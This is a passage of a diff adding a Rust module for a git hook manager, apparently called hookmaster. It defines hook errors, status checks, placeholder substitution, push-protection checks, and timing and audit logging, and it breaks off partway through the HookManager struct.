@@ -1,204 +1,5449 @@
+//! Installing hooks and running the commands configured for them
+
 use anyhow::{Context, Result};
-use std::path::Path;
-use std::process::Command;
+use std::collections::{BTreeSet, HashMap, HashSet};
+use std::ffi::OsString;
+use std::fmt;
+use std::fs;
+use std::io::{self, IsTerminal, Read, Write};
+use std::path::{Path, PathBuf};
+use std::process::{ExitStatus, Stdio};
+use std::sync::Mutex;
+use std::thread;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+use crate::audit::{self, AuditFinding, AuditSeverity};
+use crate::audit_log::{AuditEntry, AuditLogger};
+use crate::cgroup::Cgroup;
+use crate::ci::{self, CiProvider};
+use crate::commit_msg::{self, CommitMessageProcessor};
+use crate::config::{EnvPolicy, GitHooksConfig, HashFormat, HookEntry, Runner, Settings, Severity};
+use crate::config_source::{ConfigSource, CONFIG_LINK_FILE};
+use crate::dag;
+use crate::diagnostics::{self, MissingProgram};
+use crate::docker;
+use crate::duplicate_subject;
+use crate::eject::{self, Origin};
+use crate::env_file::{EnvFile, EnvVars};
+use crate::fanout::{self, FileSource};
+use crate::formatter::{self, CommandStatus, OutputBuffering, OutputFormat, Stream};
+use crate::git_hooks::{
+    self, classify_hook_script, find_git_repositories_in, Filesystems, GitHook, HookOwner,
+    ScriptFormat, SearchEvent, Submodules,
+};
+use crate::ignore::IgnoreList;
+use crate::importers::{self, HuskyImporter, ImportFormat};
+use crate::lock::{InstallLock, DEFAULT_LOCK_TIMEOUT};
+use crate::manifest::{self, InstalledHook, Manifest};
+use crate::output::{self, RepoResult, RepoStatus, Reporter};
+use crate::partially_staged;
+use crate::placeholder;
+use crate::presets::Preset;
+use crate::process::{self, TimeoutKill};
+use crate::protect::{self, PushedCommit};
+use crate::push_remote::PushRemote;
+use crate::rate_limit::TokenBucket;
+use crate::registry::{Registry, RegistryEntry, Tags};
+use crate::remote;
+use crate::remote_install::RemoteHookInstaller;
+use crate::resolve;
+use crate::sandbox::Sandbox;
+use crate::scheduler::{self, TaskOutcome};
+use crate::select::{self, RepoSelector};
+use crate::shutdown;
+use crate::stash::StashGuard;
+use crate::suggest;
+use crate::template::{GitTemplate, TemplateStatus};
+use crate::timings::{self, Timing};
+use crate::tool_paths;
+use crate::upgrade;
+use crate::verify;
+use crate::watch::{self, PollingWatcher, Watcher};
+use crate::wrap;
+
+/// Error returned when running a hook
+#[derive(Debug)]
+pub enum HookError {
+    /// The hook is not defined in the configuration
+    NotFound(String),
+    /// The hook's command exited with a non-zero exit code
+    ExecutionFailed {
+        /// Name of the hook
+        hook: String,
+        /// Exit code of the command, or -1 if it was killed by a signal
+        exit_code: i32,
+    },
+    /// One or more named commands of a multi-command hook failed
+    CommandsFailed {
+        /// Name of the hook
+        hook: String,
+        /// Names of the commands that failed
+        commands: Vec<String>,
+    },
+    /// A `foreach_dir` command failed in one or more of its directories
+    FanOutFailed {
+        /// Name of the hook
+        hook: String,
+        /// Name of the `foreach_dir` command
+        command: String,
+        /// Directories the command failed in
+        dirs: Vec<String>,
+    },
+    /// The hook's command ran longer than its `timeout` and was killed
+    TimedOut {
+        /// Name of the hook
+        hook: String,
+        /// The command's `timeout`
+        seconds: u64,
+    },
+    /// The hook's command could not be started
+    SpawnFailed {
+        /// Name of the hook
+        hook: String,
+        /// Why the command could not be started
+        source: io::Error,
+    },
+    /// The `pre-hook-command` or `post-hook-command` failed and the
+    /// settings say that fails the hook
+    CallbackFailed {
+        /// Name of the hook
+        hook: String,
+        /// The setting naming the command, such as `pre-hook-command`
+        setting: &'static str,
+        /// How the command failed
+        reason: String,
+    },
+    /// `forbid_unfinished_commits` under `[protect]` found commits that
+    /// shouldn't be pushed to a protected branch
+    UnfinishedCommits(Vec<PushedCommit>),
+    /// `require_ticket_in_pushed_commits` under `[protect]` found pushed
+    /// commits whose message references no ticket
+    CommitsWithoutTicket(Vec<PushedCommit>),
+    /// `forbid_duplicate_subject_within` under `[commit-msg]` found the
+    /// subject among those of the recent commits, and its severity is `error`
+    DuplicateSubject {
+        /// The subject of the message
+        subject: String,
+        /// How many recent commits were checked
+        within: usize,
+    },
+    /// `pre-commit-partially-staged` is `error` and these files have
+    /// changes both staged and not
+    PartiallyStaged(Vec<String>),
+    /// Strict mode is on and there is no configuration or no command for the hook
+    Strict(String),
+    /// The configuration could not be loaded or is invalid
+    ConfigError(anyhow::Error),
+}
+
+impl fmt::Display for HookError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            HookError::NotFound(hook) => write!(f, "Hook '{hook}' not found in configuration"),
+            HookError::ExecutionFailed { hook, exit_code } => {
+                write!(f, "Hook '{hook}' failed with exit code: {exit_code}")
+            }
+            HookError::CommandsFailed { hook, commands } => {
+                write!(f, "Hook '{hook}' failed: {}", commands.join(", "))
+            }
+            HookError::FanOutFailed {
+                hook,
+                command,
+                dirs,
+            } => write!(
+                f,
+                "Command '{command}' in hook '{hook}' failed in: {}",
+                dirs.join(", ")
+            ),
+            HookError::TimedOut { hook, seconds } => {
+                write!(f, "Hook '{hook}' timed out after {seconds} seconds")
+            }
+            HookError::SpawnFailed { hook, source } => {
+                write!(f, "Failed to execute hook '{hook}': {source}")
+            }
+            HookError::CallbackFailed {
+                hook,
+                setting,
+                reason,
+            } => write!(f, "{setting} of hook '{hook}' {reason}"),
+            HookError::UnfinishedCommits(commits) => {
+                writeln!(
+                    f,
+                    "Refusing to push unfinished commits to a protected branch:"
+                )?;
+                write_commits(f, commits)?;
+                write!(
+                    f,
+                    "Squash them with 'git rebase -i --autosquash' or reword them first"
+                )
+            }
+            HookError::CommitsWithoutTicket(commits) => {
+                writeln!(f, "Refusing to push commits that reference no ticket:")?;
+                write_commits(f, commits)?;
+                write!(
+                    f,
+                    "Add the ticket to their messages with 'reword' in 'git rebase -i' and push again"
+                )
+            }
+            HookError::DuplicateSubject { subject, within } => write!(
+                f,
+                "Commit subject '{subject}' repeats one of the last {within} commits; reword it to say what this commit changes"
+            ),
+            HookError::PartiallyStaged(files) => {
+                writeln!(f, "{PARTIALLY_STAGED}:")?;
+                for file in files {
+                    writeln!(f, "  {file}")?;
+                }
+                write!(f, "Stage the rest of their changes or stash them with 'git stash --keep-index', then commit again")
+            }
+            HookError::Strict(message) => write!(f, "{message} (strict mode is enabled)"),
+            HookError::ConfigError(e) => write!(f, "{e}"),
+        }
+    }
+}
+
+impl HookError {
+    /// The exit code the hook failed with: its command's own for
+    /// [`HookError::ExecutionFailed`] and 1 for the other ways its commands
+    /// can fail, or `None` if the hook didn't get to run its commands
+    pub fn exit_code(&self) -> Option<i32> {
+        match self {
+            HookError::ExecutionFailed { exit_code, .. } => Some(*exit_code),
+            HookError::CommandsFailed { .. }
+            | HookError::FanOutFailed { .. }
+            | HookError::TimedOut { .. }
+            | HookError::UnfinishedCommits(_)
+            | HookError::CommitsWithoutTicket(_)
+            | HookError::DuplicateSubject { .. }
+            | HookError::PartiallyStaged(_) => Some(1),
+            HookError::NotFound(_)
+            | HookError::SpawnFailed { .. }
+            | HookError::CallbackFailed { .. }
+            | HookError::Strict(_)
+            | HookError::ConfigError(_) => None,
+        }
+    }
+}
+
+impl std::error::Error for HookError {
+    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
+        match self {
+            HookError::SpawnFailed { source, .. } => Some(source),
+            // The error's own message is the Display above, so the chain
+            // goes on with what caused it
+            HookError::ConfigError(e) => e.source(),
+            _ => None,
+        }
+    }
+}
+
+/// Write a `<short sha> <subject>` line for each of `commits`
+fn write_commits(f: &mut fmt::Formatter<'_>, commits: &[PushedCommit]) -> fmt::Result {
+    for commit in commits {
+        let short = commit.sha.get(..12).unwrap_or(&commit.sha);
+        writeln!(f, "  {short} {}", commit.subject)?;
+    }
+    Ok(())
+}
+
+impl From<anyhow::Error> for HookError {
+    fn from(e: anyhow::Error) -> Self {
+        HookError::ConfigError(e)
+    }
+}
+
+/// Difference between the scripts of one hook in two repositories
+#[derive(Debug, Clone, PartialEq)]
+pub struct HookDiff {
+    /// File name of the script in `.git/hooks`
+    pub hook_name: String,
+    /// Unified diff from the first repository's script to the second's,
+    /// with `/dev/null` standing in for a missing one; `None` if the
+    /// scripts are the same
+    pub diff: Option<String>,
+}
+
+/// Whether a configured hook's script is installed in the repository
+#[derive(Debug, Clone, PartialEq)]
+pub struct HookStatus {
+    /// Name of the hook
+    pub name: String,
+    /// A script for the hook is present in `.git/hooks`
+    pub installed: bool,
+    /// The installed script differs from the one `add` writes
+    pub stale: bool,
+    /// Tool that wrote the installed script
+    pub owner: Option<HookOwner>,
+}
+
+impl HookStatus {
+    /// Status of the script for `hook_name` in `hooks_dir`
+    pub fn check(hooks_dir: &Path, hook_name: &str) -> Self {
+        let hook = GitHook::from_filename(hook_name);
+        let content = fs::read_to_string(hooks_dir.join(hook_name)).ok();
+        Self {
+            name: hook_name.to_string(),
+            installed: content.is_some(),
+            stale: content
+                .as_ref()
+                .is_some_and(|content| !hook.is_current_script(content)),
+            owner: content.as_deref().map(classify_hook_script),
+        }
+    }
+}
+
+/// What `add` does with a hook script another hook manager installed
+#[derive(Debug, Clone, Copy, Default, PartialEq)]
+pub enum ForeignHooks {
+    /// Fail for repositories where Husky, the pre-commit framework or
+    /// lefthook own one of the hooks
+    #[default]
+    Refuse,
+    /// Replace the script like any other
+    Replace,
+    /// Keep each script that isn't hookmaster's as `<hook>.chained` and run
+    /// it before hookmaster's commands
+    Chain,
+}
+
+/// Whether `add` writes files, or only prints what it would write
+#[derive(Debug, Clone, Copy, Default, PartialEq)]
+pub enum ExecutionMode {
+    /// Install the hooks
+    #[default]
+    Live,
+    /// Print a `[DRY-RUN]` line for each file that would be written or
+    /// skipped, leaving the filesystem untouched
+    DryRun,
+}
+
+/// Signal `run` sends a command that runs past its `timeout`. If the command
+/// is still running after the `timeout-kill-grace` setting, it is killed.
+#[derive(Debug, Clone, Copy, Default, PartialEq)]
+pub enum Signal {
+    /// `SIGTERM`, asking the command to exit
+    #[default]
+    Term,
+    /// `SIGKILL`, killing the command at once
+    Kill,
+    /// `SIGINT`, as Ctrl-C sends
+    Int,
+    /// `SIGQUIT`
+    Quit,
+    /// A signal by its number
+    Number(i32),
+}
+
+impl Signal {
+    /// Parse from the `--timeout-signal` option value: `term`, `kill`, `int`,
+    /// `quit` or a signal number
+    pub fn parse(s: &str) -> Option<Self> {
+        match s {
+            "term" => Some(Signal::Term),
+            "kill" => Some(Signal::Kill),
+            "int" => Some(Signal::Int),
+            "quit" => Some(Signal::Quit),
+            _ => s
+                .parse()
+                .ok()
+                .filter(|&number| number > 0)
+                .map(Signal::Number),
+        }
+    }
+
+    /// The signal number, as on Linux and macOS
+    pub fn number(self) -> i32 {
+        match self {
+            Signal::Term => 15,
+            Signal::Kill => 9,
+            Signal::Int => 2,
+            Signal::Quit => 3,
+            Signal::Number(number) => number,
+        }
+    }
+}
+
+/// Hooks installed to a repository, or in a dry run those that would be
+#[derive(Debug, Default)]
+struct HookInstall {
+    /// Names of the hooks
+    hooks: Vec<String>,
+    /// Names of the hooks whose scripts a dry run found another hook
+    /// manager owns, which `add` refuses to replace
+    skipped: Vec<String>,
+}
+
+/// Which hooks `list` shows; each flag that is set narrows the list further
+#[derive(Debug, Clone, Copy, Default, PartialEq)]
+pub struct HookFilter {
+    /// Only hooks whose script is installed
+    pub installed: bool,
+    /// Only hooks whose script is not installed
+    pub not_installed: bool,
+    /// Only hooks whose installed script is out of date
+    pub stale: bool,
+}
+
+/// The hooks in `status` that pass all of the checks set in `filter`
+pub fn filter_hooks(status: &[HookStatus], filter: HookFilter) -> Vec<&HookStatus> {
+    status
+        .iter()
+        .filter(|hook| !filter.installed || hook.installed)
+        .filter(|hook| !filter.not_installed || !hook.installed)
+        .filter(|hook| !filter.stale || hook.stale)
+        .collect()
+}
+
+/// Line telling where the configuration was loaded from
+fn describe_source(config: &GitHooksConfig) -> String {
+    match &config.source {
+        Some(source) => match &config.extends {
+            Some(extends) => format!("Configuration: {source}, extending {extends}"),
+            None => format!("Configuration: {source}"),
+        },
+        None => {
+            let files: Vec<&str> = ConfigSource::PRECEDENCE
+                .iter()
+                .map(ConfigSource::file_name)
+                .collect();
+            format!("No configuration found (looked in {})", files.join(", "))
+        }
+    }
+}
+
+/// Names of the placeholders replaced by the files a hook run checks
+const FILES_PLACEHOLDERS: [&str; 2] = ["files", "staged_files"];
+
+/// `entry`'s command with `{files}` and `{staged_files}` replaced by the
+/// files of `run`, quoted for the shell. `None` when the command uses them
+/// but there are no files, so there is nothing for it to check.
+fn files_substituted(run: &HookRun, entry: &HookEntry) -> Result<Option<String>> {
+    let names = placeholder::names(&entry.command);
+    if !names.iter().any(|name| FILES_PLACEHOLDERS.contains(name)) {
+        return Ok(Some(entry.command.clone()));
+    }
+
+    let files = run.files.files(run.root)?;
+    if files.is_empty() {
+        return Ok(None);
+    }
+    let quoted: Vec<String> = files
+        .iter()
+        .map(|file| process::shell_quote(&file.to_string_lossy()))
+        .collect();
+    let list = quoted.join(" ");
+    Ok(Some(
+        FILES_PLACEHOLDERS
+            .iter()
+            .fold(entry.command.clone(), |command, name| {
+                placeholder::replace(&command, name, &list)
+            }),
+    ))
+}
+
+/// Names of the placeholders replaced by the arguments git gave the hook
+const ARGS_PLACEHOLDERS: [&str; 2] = ["args", "msg_file"];
+
+/// `command` with `{args}` replaced by the arguments git gave the hook and
+/// `{msg_file}` by the first of them, the commit message file of
+/// `commit-msg` and `prepare-commit-msg`, quoted for the shell
+fn args_substituted(command: &str, args: &[String]) -> String {
+    let quoted: Vec<String> = args.iter().map(|arg| process::shell_quote(arg)).collect();
+    let result: Result<String, std::convert::Infallible> =
+        placeholder::substitute(command, |name| match name {
+            "args" => Some(Ok(quoted.join(" "))),
+            "msg_file" => Some(Ok(quoted.first().cloned().unwrap_or_default())),
+            _ => None,
+        });
+    result.unwrap_or_else(|never| match never {})
+}
+
+/// Whether `command` refers to the hook's arguments as positional
+/// parameters, such as `"$1"` or `$@`, and so doesn't get them appended
+fn uses_positional_args(command: &str) -> bool {
+    let names = ["@", "*", "#"]
+        .into_iter()
+        .map(String::from)
+        .chain((1..=9).map(|n| n.to_string()));
+    names
+        .flat_map(|name| [format!("${name}"), format!("${{{name}")])
+        .any(|param| command.contains(&param))
+}
+
+/// `command` with the arguments git gave the hook appended, quoted for the
+/// shell, as a command that doesn't refer to them gets them
+fn args_appended(command: &str, args: &[String]) -> String {
+    let quoted: Vec<String> = args.iter().map(|arg| process::shell_quote(arg)).collect();
+    format!("{command} {}", quoted.join(" "))
+}
+
+/// Explain a failure with the shell's exit code for a program that
+/// couldn't be run, naming the program and how to install it
+fn report_missing_program(label: &str, entry: &HookEntry, command: &str, exit_code: i32) {
+    // The exit codes of containers don't tell about programs on this machine
+    if entry.runner == Runner::Docker {
+        return;
+    }
+    let Some(missing) = MissingProgram::from_exit_code(exit_code) else {
+        return;
+    };
+    if let Some(program) = diagnostics::failing_program(command) {
+        let hint = entry.install_hint.as_deref();
+        eprintln!(
+            "{}",
+            diagnostics::missing_program_message(label, program, missing, hint)
+        );
+    }
+}
+
+/// Point out that a failed command ran without network access, as a
+/// network call is a likely cause of the failure
+fn report_network_denied(label: &str, run: &HookRun) {
+    if run.sandbox.denies_network() {
+        eprintln!(
+            "{label} ran without network access, so any network calls it made failed (see 'deny-network', and 'sandbox-allow-network' under [sandbox])"
+        );
+    }
+}
+
+/// Warn about running `hook_name` when it is neither a git hook nor
+/// configured, which is most likely a typo
+fn warn_unknown_hook(config: &GitHooksConfig, hook_name: &str) {
+    if git_hooks::GIT_HOOK_NAMES.contains(&hook_name) {
+        return;
+    }
+
+    match suggest::closest(hook_name, git_hooks::GIT_HOOK_NAMES) {
+        Some(suggestion) => eprintln!(
+            "Warning: '{hook_name}' is not a git hook or a configured hook; did you mean '{suggestion}'?"
+        ),
+        None => eprintln!("Warning: '{hook_name}' is not a git hook or a configured hook"),
+    }
+    let mut configured: Vec<&str> = config.hooks.keys().map(String::as_str).collect();
+    configured.sort();
+    if !configured.is_empty() {
+        eprintln!("Configured hooks: {}", configured.join(", "));
+    }
+}
+
+/// Make the checks `[protect]` asks of a push. `args` and `input` are the
+/// arguments and stdin git gave `pre-push`.
+fn check_push(
+    config: &GitHooksConfig,
+    root: &Path,
+    args: &[String],
+    input: &str,
+) -> Result<(), HookError> {
+    let protect = &config.protect;
+    let remote = args.first().map_or("origin", String::as_str);
+    if protect.forbid_unfinished_commits {
+        let unfinished = protect::unfinished_commits(root, remote, input, protect)?;
+        if !unfinished.is_empty() {
+            return Err(HookError::UnfinishedCommits(unfinished));
+        }
+    }
+    if protect.require_ticket_in_pushed_commits {
+        let processor = CommitMessageProcessor::new();
+        let missing = protect::commits_without_ticket(root, remote, input, &processor)?;
+        if !missing.is_empty() {
+            return Err(HookError::CommitsWithoutTicket(missing));
+        }
+    }
+    Ok(())
+}
+
+/// What `pre-commit-partially-staged` reports, before the files
+const PARTIALLY_STAGED: &str =
+    "These files have changes that aren't staged, so the checks see other content than the commit gets";
+
+/// Make the check `pre-commit-partially-staged` asks for, unless
+/// `HOOKMASTER_SKIP` names it
+fn check_partially_staged(root: &Path, severity: Severity) -> Result<(), HookError> {
+    let skip = std::env::var(eject::SKIP_ENV_VAR).ok();
+    if partially_staged::is_skipped(skip.as_deref()) {
+        return Ok(());
+    }
+    let files = partially_staged::partially_staged_files(root)?;
+    if files.is_empty() {
+        return Ok(());
+    }
+    match severity {
+        Severity::Warn => {
+            eprintln!("Warning: {PARTIALLY_STAGED}:");
+            for file in &files {
+                eprintln!("  {file}");
+            }
+            Ok(())
+        }
+        Severity::Error => Err(HookError::PartiallyStaged(files)),
+    }
+}
+
+/// Names of the variables commands get under `policy`, sorted: those of
+/// hookmaster's environment it allows and those of `env_vars` from
+/// `run --env-file`
+fn environment_names(policy: &EnvPolicy, env_vars: &EnvVars) -> Vec<String> {
+    let mut names: Vec<String> = std::env::vars_os()
+        .filter_map(|(name, _)| name.into_string().ok())
+        .chain(env_vars.iter().map(|(name, _)| name.clone()))
+        .filter(|name| policy.allows(name))
+        .collect();
+    names.sort();
+    names.dedup();
+    names
+}
+
+/// Rewrap the body of the commit message in `file` to `width` characters,
+/// as `wrap_body` under `[commit-msg]` asks
+fn wrap_message_file(file: &Path, width: usize) -> Result<()> {
+    let message = fs::read_to_string(file)
+        .with_context(|| format!("Failed to read commit message file: {}", file.display()))?;
+    let wrapped = wrap::wrap_body(&message, width);
+    if wrapped != message {
+        fs::write(file, wrapped)
+            .with_context(|| format!("Failed to write commit message file: {}", file.display()))?;
+    }
+    Ok(())
+}
+
+/// Check the subject of the commit message in `file` against those of the
+/// last `within` commits in the repository at `root`, as
+/// `forbid_duplicate_subject_within` under `[commit-msg]` asks: a
+/// duplicate is warned about, or fails the hook with [`Severity::Error`]
+fn check_duplicate_subject(
+    file: &Path,
+    root: &Path,
+    within: usize,
+    severity: Severity,
+) -> Result<(), HookError> {
+    let message = fs::read_to_string(file)
+        .with_context(|| format!("Failed to read commit message file: {}", file.display()))?;
+    let Some(subject) = duplicate_subject::subject_of(&message) else {
+        return Ok(());
+    };
+    let recent = duplicate_subject::recent_subjects(root, within);
+    if duplicate_subject::find_duplicate(subject, &recent).is_none() {
+        return Ok(());
+    }
+    match severity {
+        Severity::Warn => {
+            eprintln!(
+                "Warning: commit subject '{subject}' repeats one of the last {within} commits"
+            );
+            Ok(())
+        }
+        Severity::Error => Err(HookError::DuplicateSubject {
+            subject: subject.to_string(),
+            within,
+        }),
+    }
+}
+
+/// Write `config` to the hookmaster.toml of the repository at `repo`, or
+/// with [`ExecutionMode::DryRun`] print that it would. A configuration the
+/// repository already has is left alone, and is an error unless it is the
+/// same.
+fn copy_config(config: &GitHooksConfig, repo: &Path, mode: ExecutionMode) -> Result<()> {
+    let content = config.to_toml_string();
+    let path = ConfigSource::HookmasterToml.path(repo);
+    if fs::read_to_string(&path).is_ok_and(|existing| existing == content) {
+        return Ok(());
+    }
+    for existing in [
+        path.clone(),
+        ConfigSource::GitHooksToml.path(repo),
+        repo.join(CONFIG_LINK_FILE),
+    ] {
+        if existing.symlink_metadata().is_ok() {
+            return Err(anyhow::anyhow!(
+                "{} already exists; remove it to use the given configuration",
+                existing.display()
+            ));
+        }
+    }
+    if mode == ExecutionMode::DryRun {
+        println!(
+            "[DRY-RUN] would write {} ({} bytes)",
+            path.display(),
+            content.len()
+        );
+        return Ok(());
+    }
+    fs::write(&path, content).with_context(|| format!("Failed to write {}", path.display()))
+}
+
+/// Run each of the `hooks` just installed in `repo` with `--dry-run`,
+/// reporting failures to `reporter`, and return whether each one worked.
+/// Server-side hooks need a push to run and are left out.
+fn verify_hooks(
+    repo: &Path,
+    hooks: &[String],
+    reporter: &mut dyn Reporter,
+) -> HashMap<String, bool> {
+    hooks
+        .iter()
+        .filter(|hook| !git_hooks::SERVER_HOOK_NAMES.contains(&hook.as_str()))
+        .map(|hook| {
+            let result = verify::dry_run(repo, hook);
+            if let Err(e) = &result {
+                reporter.verification_failed(repo, hook, &format!("{e:#}"));
+            }
+            (hook.clone(), result.is_ok())
+        })
+        .collect()
+}
+
+/// Append how long each command of `run` that ran took to the timings log
+/// of the repository. Hooks don't fail for want of a log, so errors are
+/// ignored, as is a repository whose `.git` isn't a directory.
+fn record_timings(
+    run: &HookRun,
+    commands: &[HookEntry],
+    outcomes: &[CommandOutcome],
+    max_kb: Option<u64>,
+) {
+    let git_dir = run.root.join(".git");
+    if !git_dir.is_dir() {
+        return;
+    }
+    let (Ok(durations), Ok(warnings)) = (run.durations.lock(), run.warnings.lock()) else {
+        return;
+    };
+    let timestamp = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .unwrap_or_default()
+        .as_secs();
+    let records: Vec<Timing> = commands
+        .iter()
+        .zip(outcomes)
+        .filter_map(|(entry, outcome)| {
+            let status = match outcome {
+                TaskOutcome::Succeeded if warnings.contains_key(&entry.name) => {
+                    CommandStatus::Warning
+                }
+                TaskOutcome::Succeeded => CommandStatus::Passed,
+                TaskOutcome::Failed(_) => CommandStatus::Failed,
+                TaskOutcome::NotRun => return None,
+            };
+            let duration = durations.get(&entry.name)?;
+            Some(Timing::new(
+                timestamp,
+                run.hook_name,
+                &entry.name,
+                duration.as_millis() as u64,
+                status,
+            ))
+        })
+        .collect();
+    let max_bytes = max_kb.unwrap_or(timings::DEFAULT_MAX_KB) * 1024;
+    let _ = timings::append(&git_dir, &records, max_bytes);
+}
+
+/// Log the commands of `run` that ran to the `audit-log` file, warning
+/// when that fails
+fn log_commands(
+    run: &HookRun,
+    audit_log: &str,
+    commands: &[HookEntry],
+    outcomes: &[CommandOutcome],
+) {
+    let (Ok(durations), Ok(warnings)) = (run.durations.lock(), run.warnings.lock()) else {
+        return;
+    };
+    let logged = AuditLogger::for_setting(audit_log, run.root).and_then(|logger| {
+        for (entry, outcome) in commands.iter().zip(outcomes) {
+            let exit_code = match outcome {
+                TaskOutcome::Succeeded => warnings.get(&entry.name).copied().unwrap_or(0),
+                TaskOutcome::Failed(e) => e.exit_code().unwrap_or(1),
+                TaskOutcome::NotRun => continue,
+            };
+            let duration_ms = durations
+                .get(&entry.name)
+                .map_or(0, |d| d.as_millis() as u64);
+            logger.append(&AuditEntry::new(
+                run.root,
+                run.hook_name,
+                &entry.command,
+                exit_code,
+                duration_ms,
+            ))?;
+        }
+        Ok(())
+    });
+    if let Err(e) = logged {
+        eprintln!("Warning: failed to write the audit log: {e:#}");
+    }
+}
+
+/// Environment variable with the name of the hook for the pre- and
+/// post-hook commands
+const HOOK_NAME_ENV: &str = "HOOKMASTER_HOOK_NAME";
+
+/// Environment variable with the exit code of the hook for the post-hook command
+const EXIT_CODE_ENV: &str = "HOOKMASTER_EXIT_CODE";
+
+/// How `--test-branch` explains the order the message rules are tried in
+const MESSAGE_RULE_ORDER: &str = "branch prefixes come first, then the ticket in the branch name, the ticket environment variable and fallback_template";
+
+/// The shell that runs hook commands as `settings` say, followed by its
+/// arguments for running `command`
+fn shell_words<'a>(settings: &'a Settings, command: &'a str) -> Vec<&'a str> {
+    let (shell, flag) = match &settings.shell {
+        Some(shell) => (shell.as_str(), "-c"),
+        None if cfg!(target_os = "windows") => ("cmd", "/C"),
+        None => ("sh", "-c"),
+    };
+    let mut words = vec![shell];
+    words.extend(settings.shell_args.iter().map(String::as_str));
+    words.extend([flag, command]);
+    words
+}
+
+/// Run the `pre-hook-command` or `post-hook-command` of `hook_name` in
+/// `root`, with the hook's exit code once it has one. Returns how it
+/// failed, if it did.
+fn run_hook_callback(
+    settings: &Settings,
+    command: &str,
+    root: &Path,
+    hook_name: &str,
+    exit_code: Option<i32>,
+) -> Option<String> {
+    let words = shell_words(settings, command);
+    let mut callback = std::process::Command::new(words[0]);
+    callback
+        .args(&words[1..])
+        .current_dir(root)
+        .env(HOOK_NAME_ENV, hook_name);
+    if let Some(exit_code) = exit_code {
+        callback.env(EXIT_CODE_ENV, exit_code.to_string());
+    }
+    match callback.status() {
+        Ok(status) if status.success() => None,
+        Ok(status) => Some(format!(
+            "failed with exit code: {}",
+            status.code().unwrap_or(-1)
+        )),
+        Err(e) => Some(format!("could not be started: {e}")),
+    }
+}
+
+/// Names of the hook scripts in `hooks_dir`, leaving out git's samples
+fn hook_script_names(hooks_dir: &Path) -> BTreeSet<String> {
+    fs::read_dir(hooks_dir)
+        .into_iter()
+        .flatten()
+        .flatten()
+        .filter(|entry| entry.path().is_file())
+        .filter_map(|entry| entry.file_name().into_string().ok())
+        .filter(|name| !name.ends_with(".sample"))
+        .collect()
+}
+
+/// Run the `add --post-install-hook` script with `repo` and the names of
+/// the hooks installed to it, separated by commas
+fn run_post_install_hook(script: &Path, repo: &Path, hooks: &[String]) -> Result<()> {
+    let status = std::process::Command::new(script)
+        .arg(repo)
+        .arg(hooks.join(","))
+        .status()
+        .with_context(|| format!("Failed to run {}", script.display()))?;
+    if !status.success() {
+        return Err(anyhow::anyhow!("{} exited with {status}", script.display()));
+    }
+    Ok(())
+}
+
+/// Create a symbolic link to the file `target`
+#[cfg(unix)]
+fn symlink_file(target: &Path, link: &Path) -> io::Result<()> {
+    std::os::unix::fs::symlink(target, link)
+}
+
+/// Create a symbolic link to the file `target`
+#[cfg(windows)]
+fn symlink_file(target: &Path, link: &Path) -> io::Result<()> {
+    std::os::windows::fs::symlink_file(target, link)
+}
+
+/// Short hash of the last commit that changed `path`, if it is committed
+fn last_commit(root: &Path, path: &Path) -> Option<String> {
+    let output = std::process::Command::new("git")
+        .arg("log")
+        .args(["-1", "--format=%h", "--"])
+        .arg(path)
+        .current_dir(root)
+        .output()
+        .ok()?;
+    let hash = String::from_utf8(output.stdout).ok()?.trim().to_string();
+    (output.status.success() && !hash.is_empty()).then_some(hash)
+}
+
+/// Explain a `docker` runner that failed to start because Docker isn't installed
+fn report_missing_runner(label: &str, entry: &HookEntry, error: &io::Error) {
+    if entry.runner == Runner::Docker && error.kind() == io::ErrorKind::NotFound {
+        let hint = entry.install_hint.as_deref();
+        eprintln!(
+            "{}",
+            diagnostics::missing_program_message(label, "docker", MissingProgram::NotFound, hint)
+        );
+    }
+}
+
+/// State shared by the commands of a hook while it runs
+struct HookRun<'a> {
+    hook_name: &'a str,
+    /// Repository root; commands run here unless they fan out
+    root: &'a Path,
+    parallel: bool,
+    sandbox: Sandbox,
+    format: OutputFormat,
+    /// Settings including the shell that runs commands
+    settings: &'a Settings,
+    /// Arguments git gave the hook, such as the commit message file of `commit-msg`
+    args: &'a [String],
+    /// Stdin git gave the hook, when hookmaster read it before the commands ran
+    input: Option<&'a str>,
+    /// The remote `pre-push` pushes to, when git named it
+    remote: Option<PushRemote<'a>>,
+    /// `PATH` for commands, when tool directories are added to it
+    path: Option<OsString>,
+    /// Environment variables commands get
+    env: EnvPolicy,
+    /// Variables from `run --env-file`, set after those inherited
+    env_vars: EnvVars,
+    /// Exit codes of commands that passed with warnings, by command name
+    warnings: Mutex<ExitCodes>,
+    /// Files for `only_changed` and `{files}`
+    files: FileSource,
+    /// Group limiting the memory and CPU time of the commands, if any
+    cgroup: Option<Cgroup>,
+    /// How long each command that ran took, by command name
+    durations: Mutex<Durations>,
+}
+
+/// Exit codes by command name
+type ExitCodes = HashMap<String, i32>;
+
+/// Durations by command name
+type Durations = HashMap<String, Duration>;
+
+/// How a command of a hook ended
+type CommandOutcome = TaskOutcome<HookError>;
+
+/// Called with each directory a search for repositories reads and the
+/// repositories found before it
+type OnSearching<'a> = dyn FnMut(&Path, usize) + 'a;
+
+impl HookRun<'_> {
+    /// Record how a command finished, printing it as a json-lines record
+    /// when that is the output format
+    fn finished(&self, entry: &HookEntry, exit_code: i32, status: CommandStatus) {
+        if status == CommandStatus::Warning {
+            if let Ok(mut warnings) = self.warnings.lock() {
+                warnings.insert(entry.name.clone(), exit_code);
+            }
+        }
+        if self.format == OutputFormat::JsonLines {
+            println!(
+                "{}",
+                formatter::json_result_line(&entry.name, exit_code, status)
+            );
+        }
+    }
+}
+
+/// Main hook manager that orchestrates all hookmaster functionality. Clones
+/// share nothing mutable, so each thread can have its own.
+#[derive(Clone)]
+pub struct HookManager {
+    commit_processor: CommitMessageProcessor,
+    /// Format given with `--format`; otherwise it depends on the hook
+    output_format: Option<OutputFormat>,
+    /// When the output of hook commands is printed
+    output_buffering: OutputBuffering,
+    /// Signal sent to commands that run past their timeout
+    timeout_signal: Signal,
+    /// Configuration file given with `--config`
+    config_path: Option<PathBuf>,
+    /// Most hook files written per second by `add`
+    rate_limit: f64,
+    /// Fail hooks that have no configuration instead of skipping them
+    strict: bool,
+    /// File given to hook commands as stdin, instead of inheriting it
+    stdin_file: Option<PathBuf>,
+    /// Shared configuration file `add` links each repository's configuration to
